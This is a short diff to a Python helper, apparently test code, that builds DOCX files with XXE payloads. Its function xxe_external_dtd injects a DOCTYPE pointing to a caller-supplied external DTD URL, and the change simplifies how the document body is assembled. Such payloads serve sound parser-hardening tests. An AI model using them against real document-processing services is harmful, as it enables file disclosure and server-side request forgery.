@@ -265,7 +265,7 @@ def xxe(payload: bytes = XXE_FILE, part: str = "word/document.xml") -> bytes:
 def xxe_external_dtd(url: str) -> bytes:
     return xxe(
         b'<?xml version="1.0"?>\n<!DOCTYPE w:document SYSTEM "' + url.encode() + b'">\n'
-        + document(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>")[len(DOC_OPEN) - len(f'<w:document xmlns:w="{W}"><w:body>'):]
+        + f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>x</w:t></w:r></w:p></w:body></w:document>'.encode()
     )
 
 
